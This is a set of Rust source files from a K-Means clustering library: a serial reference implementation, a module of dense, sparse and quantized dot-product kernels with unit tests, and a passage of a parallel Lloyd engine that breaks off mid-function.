        let rel = (fast.inertia - reference.inertia).abs() / reference.inertia.max(1e-12);
        assert!(rel < 1e-3, "inertia drift: {} vs {}", fast.inertia, reference.inertia);
    }
}
