//! The original single-threaded K-Means implementation, kept verbatim as
//! (a) the baseline of the engine-ablation benchmarks ("seed serial" in
//! `BENCH_PR1.json` and DESIGN.md §6) and (b) a differential-testing
//! oracle for the parallel engine in [`crate`]'s test suite.
//!
//! It computes distances the naive way (`Σ (xᵢ−yᵢ)²`, no norm caching,
//! no pruning) and runs assignment and update on one thread.

use crate::{KMeansConfig, KMeansResult};
use rand::Rng;

fn distance_sq(a: &[f32], b: &[f32]) -> f32 {
    a.iter()
        .zip(b)
        .map(|(x, y)| {
            let d = x - y;
            d * d
        })
        .sum()
}

/// Runs the reference serial K-Means with k-means++ initialization.
///
/// Same contract as [`crate::kmeans`]; `config.threads` is ignored.
///
/// # Panics
///
/// Panics if `data` is empty, `k == 0`, or points have inconsistent
/// dimensions.
pub fn kmeans<P: AsRef<[f32]>>(
    data: &[P],
    k: usize,
    config: &KMeansConfig,
    rng: &mut impl Rng,
) -> KMeansResult {
    assert!(!data.is_empty(), "cannot cluster an empty dataset");
    assert!(k > 0, "k must be positive");
    let dim = data[0].as_ref().len();
    assert!(
        data.iter().all(|p| p.as_ref().len() == dim),
        "inconsistent point dimensions"
    );
    let k = k.min(data.len());

    let mut centroids = init_plus_plus(data, k, rng);
    let mut assignments = vec![0usize; data.len()];
    let mut iterations = 0;

    for iter in 0..config.max_iters {
        iterations = iter + 1;
        // Assignment step.
        for (i, point) in data.iter().enumerate() {
            let p = point.as_ref();
            let mut best = 0usize;
            let mut best_d = f32::INFINITY;
            for (c, centroid) in centroids.iter().enumerate() {
                let d = distance_sq(p, centroid);
                if d < best_d {
                    best_d = d;
                    best = c;
                }
            }
            assignments[i] = best;
        }
        // Update step.
        let mut sums = vec![vec![0.0f32; dim]; k];
        let mut counts = vec![0usize; k];
        for (i, point) in data.iter().enumerate() {
            let a = assignments[i];
            counts[a] += 1;
            for (s, v) in sums[a].iter_mut().zip(point.as_ref()) {
                *s += v;
            }
        }
        let mut movement = 0.0f32;
        for c in 0..k {
            if counts[c] == 0 {
                // Empty cluster: re-seed on the point farthest from its
                // centroid, the standard fix-up.
                let far = (0..data.len())
                    .max_by(|&a, &b| {
                        let da = distance_sq(data[a].as_ref(), &centroids[assignments[a]]);
                        let db = distance_sq(data[b].as_ref(), &centroids[assignments[b]]);
                        da.total_cmp(&db)
                    })
                    .expect("data non-empty");
                let fresh: Vec<f32> = data[far].as_ref().to_vec();
                movement += distance_sq(&fresh, &centroids[c]);
                centroids[c] = fresh;
                continue;
            }
            let mut fresh = sums[c].clone();
            for v in &mut fresh {
                *v /= counts[c] as f32;
            }
            movement += distance_sq(&fresh, &centroids[c]);
            centroids[c] = fresh;
        }
        if movement <= config.tolerance {
            break;
        }
    }

    // Final assignment against converged centroids.
    let mut inertia = 0.0f32;
    for (i, point) in data.iter().enumerate() {
        let p = point.as_ref();
        let mut best = 0usize;
        let mut best_d = f32::INFINITY;
        for (c, centroid) in centroids.iter().enumerate() {
            let d = distance_sq(p, centroid);
            if d < best_d {
                best_d = d;
                best = c;
            }
        }
        assignments[i] = best;
        inertia += best_d;
    }

    KMeansResult {
        centroids,
        assignments,
        inertia,
        iterations,
    }
}

/// k-means++ seeding: first centroid uniform, then each next centroid
/// sampled proportionally to squared distance from the nearest chosen one.
fn init_plus_plus<P: AsRef<[f32]>>(data: &[P], k: usize, rng: &mut impl Rng) -> Vec<Vec<f32>> {
    let mut centroids: Vec<Vec<f32>> = Vec::with_capacity(k);
    let first = rng.gen_range(0..data.len());
    centroids.push(data[first].as_ref().to_vec());
    let mut dists: Vec<f32> = data
        .iter()
        .map(|p| distance_sq(p.as_ref(), &centroids[0]))
        .collect();
    while centroids.len() < k {
        let total: f32 = dists.iter().sum();
        let chosen = if total <= f32::EPSILON {
            // All points coincide with chosen centroids; pick uniformly.
            rng.gen_range(0..data.len())
        } else {
            let mut target = rng.gen_range(0.0..total);
            let mut idx = 0;
            for (i, &d) in dists.iter().enumerate() {
                if target < d {
                    idx = i;
                    break;
                }
                target -= d;
                idx = i;
            }
            idx
        };
        centroids.push(data[chosen].as_ref().to_vec());
        let last = centroids.last().expect("just pushed");
        for (d, p) in dists.iter_mut().zip(data) {
            *d = d.min(distance_sq(p.as_ref(), last));
        }
    }
    centroids
}
