//! Data layout and vector kernels for the clustering hot paths.
//!
//! The seed engine streamed `Vec<&[f32]>` — one pointer chase per point,
//! rows scattered across the heap — and paid a full `dim`-wide scalar
//! f32 dot per (point, centroid) candidate. This module owns the layout
//! instead:
//!
//! * [`PointMatrix`] — an owned row-major SoA matrix with rows padded to
//!   a 64-byte stride, built once per clustering call, so passes stream
//!   contiguous memory;
//! * [`SparsePoints`] — a CSR view of the same points (feature-hashed
//!   embeddings touch a few hundred of 3072 buckets), powering exact
//!   sparse·dense dots at O(nnz) instead of O(dim);
//! * [`QuantMatrix`] — per-row-scaled i8 quantization with a
//!   *conservative* error bound: the coarse integer pass can only skip
//!   candidates **provably** outside the threshold / current best, and
//!   every survivor is rescored in exact f32, so pruned results are
//!   guaranteed identical to the brute-force path, not just close.
//!
//! # Determinism and bitwise equivalence
//!
//! The exact f32 kernels ([`dense_dot`], [`sparse_dot_dense`],
//! [`sparse_dot_sparse`]) all accumulate in **ascending index order** —
//! the seed engine's summation tree. The sparse kernels merely skip
//! terms in which one factor is zero; a skipped `±0.0` term can only
//! flip the sign of an all-zero partial sum, which no downstream
//! comparison or arithmetic distinguishes. The quantized kernel is pure
//! integer arithmetic (associative, exact), so its 8-lane unrolled loop
//! is reorderable for free; its f32-facing *bound* is computed in f64
//! with explicit slack for every rounding step between the real dot and
//! the f32 kernel value. Together: any mix of these kernels produces
//! bitwise-identical clustering output to the dense-scalar engine.

use std::sync::OnceLock;

/// Row stride granularity in f32 lanes: 16 lanes = 64 bytes, one cache
/// line, so row starts are cache-line aligned relative to the buffer
/// base and the 8-lane unrolled kernels never straddle a row boundary.
pub const ROW_ALIGN: usize = 16;

/// Unit roundoff slack per accumulated element of the exact f32 kernels
/// (`γ_n ≈ n·ε` with ε = 2⁻²⁴, inflated ×2 for safety).
const FP_DOT_SLACK_PER_ELEM: f64 = 1.2e-7;

/// Fp-safe half-step of the integer quantization grid (0.5 plus the
/// worst-case rounding of the f32 divide feeding `round()`).
const QUANT_HALF_STEP: f64 = 0.5004;

fn round_up(v: usize, to: usize) -> usize {
    v.div_ceil(to) * to
}

/// An owned, row-major matrix of `n` points × `dim` components, rows
/// padded with zeros to a [`ROW_ALIGN`]-lane stride.
#[derive(Debug, Clone)]
pub struct PointMatrix {
    data: Vec<f32>,
    n: usize,
    dim: usize,
    stride: usize,
}

impl PointMatrix {
    /// Copies `rows` (all of equal length) into matrix form.
    ///
    /// # Panics
    ///
    /// Panics if rows have inconsistent lengths.
    pub fn from_rows<P: AsRef<[f32]>>(rows: &[P]) -> Self {
        let dim = rows.first().map_or(0, |r| r.as_ref().len());
        let stride = round_up(dim.max(1), ROW_ALIGN);
        let mut data = vec![0.0f32; rows.len() * stride];
        for (i, row) in rows.iter().enumerate() {
            let row = row.as_ref();
            assert_eq!(row.len(), dim, "inconsistent point dimensions");
            data[i * stride..i * stride + dim].copy_from_slice(row);
        }
        PointMatrix {
            data,
            n: rows.len(),
            dim,
            stride,
        }
    }

    /// Number of rows.
    pub fn n(&self) -> usize {
        self.n
    }

    /// Components per row.
    pub fn dim(&self) -> usize {
        self.dim
    }

    /// Row `i` as a `dim`-long slice (padding excluded).
    pub fn row(&self, i: usize) -> &[f32] {
        &self.data[i * self.stride..i * self.stride + self.dim]
    }
}

/// CSR view of the nonzero structure of a point set.
#[derive(Debug, Clone, Default)]
pub struct SparsePoints {
    indices: Vec<u32>,
    values: Vec<f32>,
    offsets: Vec<usize>,
}

impl SparsePoints {
    /// Extracts the nonzero structure of `matrix`.
    pub fn from_matrix(matrix: &PointMatrix) -> Self {
        let mut sp = SparsePoints {
            indices: Vec::new(),
            values: Vec::new(),
            offsets: Vec::with_capacity(matrix.n + 1),
        };
        sp.offsets.push(0);
        for i in 0..matrix.n {
            for (j, &v) in matrix.row(i).iter().enumerate() {
                if v != 0.0 {
                    sp.indices.push(j as u32);
                    sp.values.push(v);
                }
            }
            sp.offsets.push(sp.indices.len());
        }
        sp
    }

    /// Row `i` as parallel (sorted indices, values) slices.
    pub fn row(&self, i: usize) -> (&[u32], &[f32]) {
        let (lo, hi) = (self.offsets[i], self.offsets[i + 1]);
        (&self.indices[lo..hi], &self.values[lo..hi])
    }

    /// Total stored nonzeros.
    pub fn nnz(&self) -> usize {
        self.indices.len()
    }
}

/// A clustering input: the dense matrix, its sparse view, and a lazily
/// built quantized companion — built **once** per clustering /
/// `similar_pairs` call and shared by every pass that needs it.
#[derive(Debug)]
pub struct Points {
    matrix: PointMatrix,
    sparse: SparsePoints,
    quant: OnceLock<QuantMatrix>,
}

impl Points {
    /// Builds from dense rows.
    ///
    /// # Panics
    ///
    /// Panics if `rows` is empty ("cannot cluster an empty dataset") or
    /// rows have inconsistent dimensions.
    pub fn from_dense_rows<P: AsRef<[f32]>>(rows: &[P]) -> Self {
        assert!(!rows.is_empty(), "cannot cluster an empty dataset");
        let matrix = PointMatrix::from_rows(rows);
        let sparse = SparsePoints::from_matrix(&matrix);
        Points {
            matrix,
            sparse,
            quant: OnceLock::new(),
        }
    }

    /// Builds from sparse rows (sorted index/value pairs per row) of a
    /// fixed dimensionality — the zero-densification path the embedding
    /// stage uses.
    ///
    /// # Panics
    ///
    /// Panics if `rows` is empty, indices are unsorted/duplicated, or an
    /// index is out of range for `dim`.
    pub fn from_sparse_rows(dim: usize, rows: &[(&[u32], &[f32])]) -> Self {
        assert!(!rows.is_empty(), "cannot cluster an empty dataset");
        let stride = round_up(dim.max(1), ROW_ALIGN);
        let mut data = vec![0.0f32; rows.len() * stride];
        let mut sp = SparsePoints::default();
        sp.offsets.push(0);
        for (i, &(indices, values)) in rows.iter().enumerate() {
            assert_eq!(indices.len(), values.len(), "index/value length mismatch");
            assert!(
                indices.windows(2).all(|w| w[0] < w[1]),
                "indices must be strictly ascending"
            );
            for (&j, &v) in indices.iter().zip(values) {
                assert!((j as usize) < dim, "inconsistent point dimensions");
                data[i * stride + j as usize] = v;
            }
            sp.indices.extend_from_slice(indices);
            sp.values.extend_from_slice(values);
            sp.offsets.push(sp.indices.len());
        }
        Points {
            matrix: PointMatrix {
                data,
                n: rows.len(),
                dim,
                stride,
            },
            sparse: sp,
            quant: OnceLock::new(),
        }
    }

    /// The dense matrix.
    pub fn matrix(&self) -> &PointMatrix {
        &self.matrix
    }

    /// The sparse (CSR) view.
    pub fn sparse(&self) -> &SparsePoints {
        &self.sparse
    }

    /// The quantized companion, built on first use and cached.
    pub fn quant(&self) -> &QuantMatrix {
        self.quant.get_or_init(|| QuantMatrix::from_matrix(&self.matrix))
    }

    /// Number of points.
    pub fn n(&self) -> usize {
        self.matrix.n
    }

    /// Dimensionality.
    pub fn dim(&self) -> usize {
        self.matrix.dim
    }

    /// Fraction of stored components that are nonzero.
    pub fn density(&self) -> f64 {
        if self.matrix.n == 0 || self.matrix.dim == 0 {
            return 0.0;
        }
        self.sparse.nnz() as f64 / (self.matrix.n * self.matrix.dim) as f64
    }
}

/// Per-row-scaled i8 quantization of a [`PointMatrix`], with the cached
/// per-row statistics ([`QuantMatrix::dot_window`] needs) to turn an
/// integer dot into a *certified* interval around the exact f32 dot.
#[derive(Debug, Clone)]
pub struct QuantMatrix {
    q: Vec<i8>,
    n: usize,
    dim: usize,
    stride: usize,
    /// Per-row dequantization scale (`max |v| / 127`).
    scale: Vec<f64>,
    /// Per-row quantized L1 mass `Σ |scale·qᵢ|` (upper bound, f64).
    l1: Vec<f64>,
    /// Per-row Euclidean norm (upper bound, f64).
    norm2: Vec<f64>,
}

impl QuantMatrix {
    /// Quantizes every row of `matrix`.
    pub fn from_matrix(matrix: &PointMatrix) -> Self {
        Self::from_row_iter(matrix.n, matrix.dim, (0..matrix.n).map(|i| matrix.row(i)))
    }

    /// Quantizes free-standing rows (the per-iteration centroid set).
    ///
    /// # Panics
    ///
    /// Panics if a row's length differs from `dim`.
    pub fn from_rows<P: AsRef<[f32]>>(dim: usize, rows: &[P]) -> Self {
        rows.iter().for_each(|r| {
            assert_eq!(r.as_ref().len(), dim, "inconsistent point dimensions");
        });
        Self::from_row_iter(rows.len(), dim, rows.iter().map(|r| r.as_ref()))
    }

    fn from_row_iter<'a>(n: usize, dim: usize, rows: impl Iterator<Item = &'a [f32]>) -> Self {
        let stride = round_up(dim.max(1), ROW_ALIGN * 4); // 64 i8 = one cache line
        let mut q = vec![0i8; n * stride];
        let mut scale = Vec::with_capacity(n);
        let mut l1 = Vec::with_capacity(n);
        let mut norm2 = Vec::with_capacity(n);
        for (i, row) in rows.enumerate() {
            let max_abs = row.iter().fold(0.0f32, |m, v| m.max(v.abs()));
            let s = if max_abs > 0.0 && max_abs.is_finite() {
                max_abs / 127.0
            } else {
                0.0
            };
            let mut qsum = 0u64;
            let mut sq = 0.0f64;
            if s > 0.0 {
                let out = &mut q[i * stride..i * stride + dim];
                for (slot, &v) in out.iter_mut().zip(row) {
                    let quantized = (v / s).round().clamp(-127.0, 127.0) as i32;
                    *slot = quantized as i8;
                    qsum += quantized.unsigned_abs() as u64;
                    sq += f64::from(v) * f64::from(v);
                }
            } else {
                for &v in row {
                    sq += f64::from(v) * f64::from(v);
                }
            }
            scale.push(f64::from(s));
            l1.push(f64::from(s) * qsum as f64 * (1.0 + 1e-9));
            norm2.push(sq.sqrt() * (1.0 + 1e-9));
        }
        QuantMatrix {
            q,
            n,
            dim,
            stride,
            scale,
            l1,
            norm2,
        }
    }

    /// Number of rows.
    pub fn n(&self) -> usize {
        self.n
    }

    /// Row `i` including its zero padding (safe to dot full-stride).
    fn padded_row(&self, i: usize) -> &[i8] {
        &self.q[i * self.stride..(i + 1) * self.stride]
    }

    /// Upper bound (f64, certified) on the row-`i` Euclidean norm.
    pub fn norm2(&self, i: usize) -> f64 {
        self.norm2[i]
    }

    /// A certified window around the **exact f32 kernel's** dot of row
    /// `i` of `self` with row `j` of `other`: returns `(approx, err)`
    /// such that `|fl32_dot − approx| ≤ err`.
    ///
    /// Derivation (all in f64, inflated at every step): writing row
    /// components as `vᵢ = s_a·qᵢ + eᵢ` with `|eᵢ| ≤ `[`QUANT_HALF_STEP`]`·s_a`
    /// (zero rows quantize exactly, so `eᵢ = 0` there too),
    ///
    /// ```text
    /// Σ vᵢwᵢ = s_a·s_b·Q  +  Σ eᵢ(s_b·rᵢ)  +  Σ (s_a·qᵢ)fᵢ  +  Σ eᵢfᵢ
    /// |quant err| ≤ h·s_a·L1_b + h·s_b·L1_a + h²·s_a·s_b·dim
    /// ```
    ///
    /// with `h = `[`QUANT_HALF_STEP`], plus the f32 summation slack of
    /// the exact kernel, `γ_dim·‖a‖₂‖b‖₂` (Cauchy–Schwarz on
    /// `Σ|aᵢbᵢ|`). The integer dot `Q` itself is exact: `|Q| ≤
    /// dim·127² < 2³¹` and f64 holds it exactly.
    ///
    /// # Panics
    ///
    /// Panics if dimensions differ.
    pub fn dot_window(&self, i: usize, other: &QuantMatrix, j: usize) -> (f64, f64) {
        assert_eq!(self.dim, other.dim, "dimension mismatch");
        let qdot = quant_dot_i32(self.padded_row(i), other.padded_row(j));
        let (sa, sb) = (self.scale[i], other.scale[j]);
        let approx = sa * sb * f64::from(qdot);
        let quant_err = QUANT_HALF_STEP * sa * other.l1[j]
            + QUANT_HALF_STEP * sb * self.l1[i]
            + QUANT_HALF_STEP * QUANT_HALF_STEP * sa * sb * self.dim as f64;
        let fp_err = FP_DOT_SLACK_PER_ELEM * self.dim as f64 * self.norm2[i] * other.norm2[j];
        (approx, quant_err * (1.0 + 1e-9) + fp_err + 1e-12)
    }

    /// Upper bound on the exact f32 dot of rows `i` (self) and `j`
    /// (other) — the refinement screen: a pair is provably below a
    /// cosine threshold `t > −1` when `pair_upper_bound < t`.
    pub fn pair_upper_bound(&self, i: usize, other: &QuantMatrix, j: usize) -> f64 {
        let (approx, err) = self.dot_window(i, other, j);
        approx + err
    }
}

/// Exact dense dot, ascending index order — the seed engine's summation
/// tree, kept verbatim as the bitwise reference all other kernels match.
pub fn dense_dot(a: &[f32], b: &[f32]) -> f32 {
    a.iter().zip(b).map(|(x, y)| x * y).sum()
}

/// Exact sparse·dense dot, bitwise identical to [`dense_dot`] of the
/// densified row with `dense` (terms with a zero factor are skipped;
/// accumulation order is ascending index, same as the dense kernel).
pub fn sparse_dot_dense(indices: &[u32], values: &[f32], dense: &[f32]) -> f32 {
    indices
        .iter()
        .zip(values)
        .map(|(&i, &v)| v * dense[i as usize])
        .sum()
}

/// Exact sparse·sparse dot (merge walk), bitwise identical to
/// [`dense_dot`] of the two densified rows.
pub fn sparse_dot_sparse(ai: &[u32], av: &[f32], bi: &[u32], bv: &[f32]) -> f32 {
    let mut sum = 0.0f32;
    let (mut x, mut y) = (0usize, 0usize);
    while x < ai.len() && y < bi.len() {
        let (ia, ib) = (ai[x], bi[y]);
        if ia == ib {
            sum += av[x] * bv[y];
            x += 1;
            y += 1;
        } else if ia < ib {
            x += 1;
        } else {
            y += 1;
        }
    }
    sum
}

/// i8·i8 → i32 dot over equal-length (padded) rows, 8-lane unrolled.
///
/// Integer addition is associative, so the 8 independent accumulators
/// change nothing about the result while breaking the dependency chain
/// the f32 kernels are stuck with — this is the FMA-friendly inner loop
/// the compiler autovectorizes.
///
/// # Panics
///
/// Panics if lengths differ.
pub fn quant_dot_i32(a: &[i8], b: &[i8]) -> i32 {
    assert_eq!(a.len(), b.len(), "dimension mismatch");
    let mut acc = [0i32; 8];
    let mut chunks_a = a.chunks_exact(8);
    let mut chunks_b = b.chunks_exact(8);
    for (ca, cb) in (&mut chunks_a).zip(&mut chunks_b) {
        for lane in 0..8 {
            acc[lane] += i32::from(ca[lane]) * i32::from(cb[lane]);
        }
    }
    let mut sum: i32 = acc.iter().sum();
    for (&x, &y) in chunks_a.remainder().iter().zip(chunks_b.remainder()) {
        sum += i32::from(x) * i32::from(y);
    }
    sum
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn matrix_round_trips_rows() {
        let rows = vec![vec![1.0f32, 2.0, 3.0], vec![4.0, 5.0, 6.0]];
        let m = PointMatrix::from_rows(&rows);
        assert_eq!(m.n(), 2);
        assert_eq!(m.dim(), 3);
        assert_eq!(m.row(0), &[1.0, 2.0, 3.0]);
        assert_eq!(m.row(1), &[4.0, 5.0, 6.0]);
        assert_eq!(m.stride % ROW_ALIGN, 0);
    }

    #[test]
    fn sparse_view_matches_matrix() {
        let rows = vec![vec![0.0f32, 2.0, 0.0, -1.0], vec![0.0, 0.0, 0.0, 0.0]];
        let p = Points::from_dense_rows(&rows);
        let (idx, vals) = p.sparse().row(0);
        assert_eq!(idx, &[1, 3]);
        assert_eq!(vals, &[2.0, -1.0]);
        let (idx, vals) = p.sparse().row(1);
        assert!(idx.is_empty() && vals.is_empty());
        assert!((p.density() - 0.25).abs() < 1e-12);
    }

    #[test]
    fn sparse_rows_build_matches_dense_build() {
        let rows = vec![vec![0.0f32, 2.0, 0.0, -1.0], vec![1.0, 0.0, 0.0, 0.0]];
        let dense = Points::from_dense_rows(&rows);
        let sparse_inputs: Vec<(Vec<u32>, Vec<f32>)> = vec![
            (vec![1, 3], vec![2.0, -1.0]),
            (vec![0], vec![1.0]),
        ];
        let refs: Vec<(&[u32], &[f32])> = sparse_inputs
            .iter()
            .map(|(i, v)| (i.as_slice(), v.as_slice()))
            .collect();
        let sparse = Points::from_sparse_rows(4, &refs);
        for i in 0..2 {
            assert_eq!(dense.matrix().row(i), sparse.matrix().row(i));
            assert_eq!(dense.sparse().row(i), sparse.sparse().row(i));
        }
    }

    #[test]
    #[should_panic(expected = "empty")]
    fn empty_points_panic() {
        Points::from_dense_rows::<Vec<f32>>(&[]);
    }

    #[test]
    fn exact_kernels_agree_bitwise() {
        let a = vec![0.0f32, 0.125, -3.5, 0.0, 7.25, 0.0, 0.0, 1.0, -0.75, 2.0];
        let b = vec![1.5f32, 0.0, 2.0, 0.0, -1.25, 0.0, 4.0, 0.5, 0.0, -2.0];
        let p = Points::from_dense_rows(&[a.clone(), b.clone()]);
        let reference = dense_dot(&a, &b);
        let (ai, av) = p.sparse().row(0);
        let (bi, bv) = p.sparse().row(1);
        assert_eq!(sparse_dot_dense(ai, av, &b).to_bits(), reference.to_bits());
        assert_eq!(sparse_dot_sparse(ai, av, bi, bv).to_bits(), reference.to_bits());
    }

    #[test]
    fn quant_window_contains_the_exact_dot() {
        let rows: Vec<Vec<f32>> = vec![
            vec![0.3, -0.7, 0.0, 0.01, 0.99, -0.2, 0.0, 0.43],
            vec![-0.5, 0.5, 0.25, 0.0, -0.125, 0.8, 0.0, -0.9],
            vec![0.0; 8],
        ];
        let q = QuantMatrix::from_rows(8, &rows);
        for i in 0..3 {
            for j in 0..3 {
                let exact = f64::from(dense_dot(&rows[i], &rows[j]));
                let (approx, err) = q.dot_window(i, &q, j);
                assert!(
                    (exact - approx).abs() <= err,
                    "window missed: exact {exact}, approx {approx} ± {err}"
                );
            }
        }
    }

    #[test]
    fn quant_dot_matches_scalar_reference() {
        let a: Vec<i8> = (0..67).map(|i: i32| (i * 37 % 255 - 127) as i8).collect();
        let b: Vec<i8> = (0..67).map(|i: i32| (i * 91 % 255 - 127) as i8).collect();
        let reference: i32 = a
            .iter()
            .zip(&b)
            .map(|(&x, &y)| i32::from(x) * i32::from(y))
            .sum();
        assert_eq!(quant_dot_i32(&a, &b), reference);
    }

    #[test]
    fn zero_rows_quantize_to_zero_with_zero_error_mass() {
        let q = QuantMatrix::from_rows(4, &[vec![0.0f32; 4]]);
        let (approx, err) = q.dot_window(0, &q, 0);
        assert_eq!(approx, 0.0);
        assert!(err < 1e-9, "zero row should carry almost no error: {err}");
    }
}
