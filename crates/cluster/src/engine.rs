//! The parallel Lloyd engine behind [`crate::kmeans`] and
//! [`crate::kmeans_warm`].
//!
//! # Determinism contract
//!
//! Results are **bitwise identical at any thread count**. Three rules
//! make that hold, and every future change must preserve them:
//!
//! 1. **Fixed chunk boundaries.** Points are processed in chunks of
//!    [`CHUNK`] — a constant, *never* derived from the thread count — so
//!    the partition of the input does not depend on parallelism.
//! 2. **In-index-order merging.** Per-chunk partial results (cluster
//!    sums, counts, inertia) are merged by ascending chunk index on one
//!    thread. Floating-point addition is not associative; a fixed merge
//!    order fixes the summation tree, so the same bits come out no
//!    matter which worker computed which chunk.
//! 3. **Thread-independent work.** A chunk's pass reads only the input
//!    and the centroids of the previous iteration — never another
//!    chunk's output — so scheduling cannot leak into the arithmetic.
//!
//! # Distance pruning
//!
//! Squared norms of points and centroids are cached once per pass, so
//! `‖p−c‖² = ‖p‖² − 2·p·c + ‖c‖²` costs one dot product. Before paying
//! for the dot product, the triangle-inequality lower bound
//! `(‖p‖−‖c‖)² ≤ ‖p−c‖²` is checked against the best distance so far
//! and losing centroids are skipped outright. Pruning is a pure
//! short-circuit on the same scan order, so it cannot change the argmin
//! and keeps the contract above.

use crate::{KMeansConfig, KMeansResult};

/// Default points-per-chunk of the assignment pass
/// ([`KMeansConfig::chunk`]). Whatever the value, it must stay
/// independent of the thread count — see the determinism contract above.
pub(crate) const DEFAULT_CHUNK: usize = 1024;

/// Per-chunk output of one assignment pass.
struct ChunkPass {
    /// Assigned cluster per point of the chunk.
    assign: Vec<usize>,
    /// Squared distance of each point to its assigned centroid.
    dist: Vec<f32>,
    /// Per-cluster component sums (`k × dim`, flattened), empty when the
    /// pass only needs assignments.
    sums: Vec<f32>,
    /// Per-cluster member counts, empty when `sums` is.
    counts: Vec<usize>,
    /// Chunk inertia: `dist` summed in point order.
    inertia: f32,
    /// Centroid scans skipped by the triangle-inequality bound.
    pruned: u64,
}

fn dot(a: &[f32], b: &[f32]) -> f32 {
    a.iter().zip(b).map(|(x, y)| x * y).sum()
}

pub(crate) fn distance_sq(a: &[f32], b: &[f32]) -> f32 {
    a.iter()
        .zip(b)
        .map(|(x, y)| {
            let d = x - y;
            d * d
        })
        .sum()
}

/// Resolves the configured thread count: `0` means
/// `available_parallelism`, and no more workers than chunks are ever
/// useful.
fn resolve_threads(requested: usize, n_chunks: usize) -> usize {
    let threads = if requested == 0 {
        std::thread::available_parallelism()
            .map(|v| v.get())
            .unwrap_or(1)
    } else {
        requested
    };
    threads.clamp(1, n_chunks.max(1))
}

/// Runs `f` over every chunk index and returns the outputs **ordered by
/// chunk index**, regardless of which worker produced them. Workers take
/// chunks by stride; with one thread no scope is spawned at all.
fn run_chunks<T, F>(n_chunks: usize, threads: usize, f: F) -> Vec<T>
where
    T: Send,
    F: Fn(usize) -> T + Sync,
{
    if threads <= 1 || n_chunks <= 1 {
        return (0..n_chunks).map(f).collect();
    }
    let workers = threads.min(n_chunks);
    crossbeam::thread::scope(|scope| {
        let f = &f;
        let handles: Vec<_> = (0..workers)
            .map(|w| {
                scope.spawn(move |_| {
                    let mut out = Vec::new();
                    let mut chunk = w;
                    while chunk < n_chunks {
                        out.push((chunk, f(chunk)));
                        chunk += workers;
                    }
                    out
                })
            })
            .collect();
        let mut slots: Vec<Option<T>> = (0..n_chunks).map(|_| None).collect();
        for handle in handles {
            for (chunk, value) in handle.join().expect("kmeans worker must not panic") {
                slots[chunk] = Some(value);
            }
        }
        slots
            .into_iter()
            .map(|slot| slot.expect("every chunk processed exactly once"))
            .collect()
    })
    .expect("crossbeam scope")
}

/// One assignment pass over chunk `chunk`: nearest centroid per point
/// with norm-cached pruned distances, plus (optionally) the chunk's
/// partial cluster sums for the update step.
#[allow(clippy::too_many_arguments)]
fn assign_chunk(
    points: &[&[f32]],
    pnorm: &[f32],
    proot: &[f32],
    centroids: &[Vec<f32>],
    cnorm: &[f32],
    croot: &[f32],
    dim: usize,
    chunk: usize,
    chunk_size: usize,
    with_sums: bool,
) -> ChunkPass {
    let lo = chunk * chunk_size;
    let hi = (lo + chunk_size).min(points.len());
    let k = centroids.len();
    let mut assign = Vec::with_capacity(hi - lo);
    let mut dist = Vec::with_capacity(hi - lo);
    let mut sums = if with_sums { vec![0.0f32; k * dim] } else { Vec::new() };
    let mut counts = if with_sums { vec![0usize; k] } else { Vec::new() };
    let mut inertia = 0.0f32;
    let mut pruned = 0u64;
    for i in lo..hi {
        let point = points[i];
        let mut best = 0usize;
        let mut best_d = f32::INFINITY;
        for c in 0..k {
            // Triangle-inequality lower bound: skip centroids that
            // cannot beat the incumbent without touching their
            // coordinates.
            let gap = proot[i] - croot[c];
            if gap * gap >= best_d {
                pruned += 1;
                continue;
            }
            let d = pnorm[i] - 2.0 * dot(point, &centroids[c]) + cnorm[c];
            if d < best_d {
                best_d = d;
                best = c;
            }
        }
        // The expansion can go epsilon-negative for a point sitting on
        // its centroid.
        let best_d = best_d.max(0.0);
        assign.push(best);
        dist.push(best_d);
        inertia += best_d;
        if with_sums {
            counts[best] += 1;
            for (s, v) in sums[best * dim..(best + 1) * dim].iter_mut().zip(point) {
                *s += v;
            }
        }
    }
    ChunkPass {
        assign,
        dist,
        sums,
        counts,
        inertia,
        pruned,
    }
}

/// Lloyd iterations from the given initial centroids.
///
/// Shared by [`crate::kmeans`] (k-means++ init) and
/// [`crate::kmeans_warm`] (previous centroids + seeded extras).
pub(crate) fn lloyd(
    points: &[&[f32]],
    dim: usize,
    mut centroids: Vec<Vec<f32>>,
    config: &KMeansConfig,
) -> KMeansResult {
    let n = points.len();
    let k = centroids.len();
    let chunk_size = config.chunk.max(1);
    let n_chunks = n.div_ceil(chunk_size);
    let threads = resolve_threads(config.threads, n_chunks);
    let pnorm: Vec<f32> = points.iter().map(|p| dot(p, p)).collect();
    let proot: Vec<f32> = pnorm.iter().map(|v| v.sqrt()).collect();

    let mut assignments = vec![0usize; n];
    let mut iterations = 0;
    let mut pruned_total = 0u64;
    let mut reseeded_total = 0u64;
    for iter in 0..config.max_iters {
        iterations = iter + 1;
        let cnorm: Vec<f32> = centroids.iter().map(|c| dot(c, c)).collect();
        let croot: Vec<f32> = cnorm.iter().map(|v| v.sqrt()).collect();
        let passes = run_chunks(n_chunks, threads, |chunk| {
            assign_chunk(
                points, &pnorm, &proot, &centroids, &cnorm, &croot, dim, chunk, chunk_size,
                true,
            )
        });
        // Merge partials in chunk-index order (the determinism contract).
        let mut sums = vec![0.0f32; k * dim];
        let mut counts = vec![0usize; k];
        let mut dists = vec![0.0f32; n];
        for (chunk, pass) in passes.iter().enumerate() {
            let lo = chunk * chunk_size;
            assignments[lo..lo + pass.assign.len()].copy_from_slice(&pass.assign);
            dists[lo..lo + pass.dist.len()].copy_from_slice(&pass.dist);
            for (s, v) in sums.iter_mut().zip(&pass.sums) {
                *s += v;
            }
            for (count, v) in counts.iter_mut().zip(&pass.counts) {
                *count += v;
            }
            pruned_total += pass.pruned;
        }
        // Update step, serial over k.
        let mut movement = 0.0f32;
        let mut reseed_order: Option<Vec<usize>> = None;
        let mut reseeded = 0usize;
        for c in 0..k {
            if counts[c] == 0 {
                // Empty cluster: re-seed on the farthest point from its
                // centroid; successive empties take successively
                // farther-ranked points so they do not collapse onto one.
                let order = reseed_order.get_or_insert_with(|| {
                    let mut idx: Vec<usize> = (0..n).collect();
                    idx.sort_by(|&a, &b| dists[b].total_cmp(&dists[a]).then(a.cmp(&b)));
                    idx
                });
                let far = order[reseeded.min(order.len() - 1)];
                reseeded += 1;
                let fresh = points[far].to_vec();
                movement += distance_sq(&fresh, &centroids[c]);
                centroids[c] = fresh;
                continue;
            }
            let inv = 1.0 / counts[c] as f32;
